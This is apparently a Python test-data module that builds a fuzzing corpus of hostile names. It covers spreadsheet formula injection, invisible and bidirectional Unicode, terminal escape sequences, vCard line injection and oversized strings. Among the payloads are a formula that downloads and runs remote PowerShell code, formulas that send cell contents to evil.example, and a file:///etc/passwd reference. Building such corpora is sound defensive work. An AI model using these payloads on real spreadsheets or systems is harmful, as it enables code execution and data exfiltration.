"""Dangerous texts that strangers may have as their name, by what is dangerous about them.

Leads and payloads: OWASP, CSV Injection; PayloadsAllTheThings, CSV Injection; Unicode UTS 36, 39.
"""

from __future__ import annotations

import unicodedata

LEADS = "=+-@\t\r\n|%"
TWINS = "＝＋－＠﹦﹢﹣﹫−"  # full-width and small forms, and the minus sign
PAYLOADS = (
    'DDE ("cmd";"/C calc";"!A0")A0',
    "cmd|' /C calc'!A0",
    "cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "1+1+cmd|' /C calc'!'A1'",
    'HYPERLINK("https://evil.example/?leak="&A1&A2,"Click")',
    'IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    'WEBSERVICE("https://evil.example/"&A1)',
    "'file:///etc/passwd'#$passwd.A1",
    "SUM(1+9)*cmd|' /C calc'!A0",
    '10+20+cmd|" /C calc"!A0',
    "AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "A1",
    "1",
)
UNSEEN = (
    "",
    " ",
    "\xa0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\x00",
    "\x1f",
    "\x7f",
    "\xad",
    '"',
    "'",
)
BREAKS = (";", ",", "\t", "\n", "\r\n", '"', '",', "\x0b", "\x0c", "\x85", "\u2028", "\u2029")

VALUES = (
    "#N/A", "#REF!", "#DIV/0!", "TRUE", "1e5", "1E+400", "0012345", "12345678901234567890",
    "2024-01-02", "1/2", "50%", "12:30", "£5", "NaN", "Infinity", "None", "null", "{=1+1}", "'quoted",
    "https://evil.example", "mailto:x@evil.example", "file:///etc/passwd", "internal:Sheet1!A1",
    "\\\\evil.example\\share", "javascript:alert(1)", "<script>alert(1)</script>", "<f>1+1</f>",
    "&lt;f&gt;", "]]>", "<![CDATA[x]]>", "&#x3d;1+1", "_x003D_1+1", "_x005F_x0041_", "%0A", "${7*7}",
    "{{7*7}}", "[red]x[/red]", "[link=https://evil.example]x[/link]", ":smile:", "x},{", '"},{"id":"1',
)  # fmt: skip

BIDI = tuple(
    f"Anna {mark}gnp.exe"
    for mark in "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
JOINERS = tuple(
    f"An{mark}na" for mark in "\u200b\u200c\u200d\u2060\ufeff\u034f\u180e\u3164\ufe0f\xad"
)
FLOODS = (
    "Z" + "\u0351\u0489\u0321" * 400,  # combining marks without end
    "\N{FAMILY}" * 200,
    "\U0001f468\u200d" * 300,  # joined emoji without end
    "\U0001f1e9\U0001f1ea" * 100,  # flags
    "\ufdfd" * 60,  # the widest character there is
    "ﷺ" * 40,
    "a" * 32_767,
    "😀" * 16_384,
)
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x1b[31mred", "\x1bP+q544e\x1b\\", "\x9b31mred", "\x9d0;title\x9c",
    "\x1bc", "\x08\x08\x08gone", "\rover", "\x07", "\x0e\x0f", "\x7f", "\x1b[6n", "\x1b[?1049h", "\x05",
)  # fmt: skip
VCARD = (
    "x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nTEL:+12025550123\r\n", "x\nTEL:+12025550123", "a;b;c", "a,b", "a\\nb",
    "x\r\n TEL:1", "=0D=0AEND:VCARD", "x\x85TEL:1", "x\u2028TEL:1",
)  # fmt: skip
SURROGATES = ("\ud83d", "a\udc00b", "\udfff\ud800")


def formulas() -> list[str]:
    """Return every lead and its twins before every payload, hidden in every way."""
    leads = [*LEADS, *TWINS, "=-", "+=", "@=", "\t=", "'="]
    begun = [f"{lead}{payload}" for lead in leads for payload in PAYLOADS]
    hidden = [f"{unseen}={payload}" for unseen in UNSEEN for payload in PAYLOADS]
    behind = [f"x{between}={PAYLOADS[1]}" for between in BREAKS]
    return [*begun, *hidden, *behind]


def planes(step: int = 4_999) -> list[str]:
    """Return samples of all 17 planes of Unicode, unassigned, private and noncharacters too."""
    sampled = {*range(0, 0x300, 7), *range(0, 0x110000, step)}
    sampled |= {plane + last for plane in range(0, 0x110000, 0x10000) for last in (0xFFFE, 0xFFFF)}
    return [f"a{chr(code)}b" for code in sorted(sampled) if unicodedata.category(chr(code)) != "Cs"]


def names() -> list[str]:
    """Return the whole corpus but for lone surrogates, which no UTF-8 can hold."""
    few = [*VALUES, *BIDI, *JOINERS, *FLOODS, *TERMINAL, *VCARD]
    return list(dict.fromkeys([*formulas(), *few, *planes()]))
